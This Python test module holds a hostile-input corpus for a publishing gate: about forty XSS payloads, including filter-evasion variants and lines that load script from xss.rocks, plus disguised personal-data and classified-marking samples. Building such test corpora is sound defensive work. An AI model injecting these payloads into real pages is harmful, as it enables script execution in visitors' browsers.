"""The hostile-input corpus: what an attacker or a careless clerk writes, and where.

Each script payload calls alert('gkxss'), so a browser that runs one is caught by its dialog. Keep it growing:
a new way past the gate becomes a new line here. Sources: the attempts recorded in issue 14, and OWASP's
XSS Filter Evasion Cheat Sheet.
"""

from __future__ import annotations

# Script and link payloads: each must be refused with its file and line, and must not run even if it got past.
SCRIPT = [
    # issue 14
    "<img src=x onerror=alert('gkxss')>",
    "<!-- --!><script>alert('gkxss')</script> -->",
    "<![CDATA[ x ><img src=x onerror=alert('gkxss')> ]]>",
    "[点此][r]\n\n[r]: javascript:alert('gkxss')",
    "[点此](&#106;avascript:alert('gkxss'))",
    "[点此](javascript&colon;alert('gkxss'))",
    "[点此](java&#9;script:alert('gkxss'))",
    "[点此](java&#10;script:alert('gkxss'))",
    "[点此](\x01javascript:alert('gkxss'))",
    "[点此](javascript:alert('gkxss'))",
    "<javascript:alert('gkxss')>",
    "## 标题<img src=x onerror=alert('gkxss')>\n\n正文",  # a heading: its text also goes into the page's table of contents
    "| 列 |\n| --- |\n| <img src=x onerror=alert('gkxss')> |",
    # OWASP XSS filter evasion
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('gkxss');\">",
    "<IMG SRC=JaVaScRiPt:alert('gkxss')>",
    "<IMG SRC=`javascript:alert('gkxss')`>",
    "<a onmouseover=\"alert('gkxss')\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert('gkxss')</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert('gkxss')\"></img>",
    "<img src=x onerror=\"&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039gkxss&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('gkxss')>",
    "<IMG SRC=\"jav\tascript:alert('gkxss');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('gkxss');\">",
    "<IMG SRC=\" &#14;  javascript:alert('gkxss');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert('gkxss')>",
    "<<SCRIPT>alert('gkxss');//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "</TITLE><SCRIPT>alert('gkxss');</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('gkxss');\">",
    "<svg/onload=alert('gkxss')>",
    "<IFRAME SRC=\"javascript:alert('gkxss');\"></IFRAME>",
    "<DIV STYLE=\"background-image: url(javascript:alert('gkxss'))\">x</DIV>",
    "<math><mi xlink:href=\"javascript:alert('gkxss')\">x</mi></math>",
    "<details open ontoggle=alert('gkxss')>x</details>",
    "<a href=\"javascript&colon;alert('gkxss')\">x</a>",
    "<object data=\"javascript:alert('gkxss')\"></object>",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    "<form><button formaction=javascript:alert('gkxss')>x</button></form>",
]

# Personal data and classified markings (issue 14): each must be refused with its file and line, in every output.
PRIVATE = [
    "联系人手机１３８１２３４５６７８", "身份证号 110105 19491231 002X", "身份证号110105\u00a019491231\u00a0002X",
    "原身份证号110105491231002", "手机 +86 13812345678", "手机 008613812345678", "手机 (138)1234-5678",
    "手机 138.1234.5678", "手机 1381234&#53;678", "手机 138**1234**5678", "护照号码 E12345678",
    "家庭电话 0576-85123456", "邮箱 zhangsan@qq.com", "退款账户 6222021234567890128",
    "机&#23494;★", "绝密&#9733;", "机\u00ad密★", "机\u200b密★", "机密∗", "机密﹡", "机密⋆", "机密✱", "机密\uf0ab",
    "機密★", "机**密**★", "密级：机密", "机密★1年",
    # issue 24: what a reader can copy (attributes, addresses) and the variants the scans did not know
    '<span title="11010519491231002X">张三</span>', '<abbr title="13912345678">联系人</abbr>',
    "[详情](https://example.org/q?sfz=11010519491231002X)", "[拨打](tel:13912345678)",
    '<img src="/p/11010519491231002X.png" alt="照片">', "手机一三九一二三四五六七八", "港澳通行证 C12345678",
    "身份证号ID11010519491231002X", '<span title="机密★">说明</span>', "★机密", "机密（★）", "机\\密★", "秘密 十年",
]
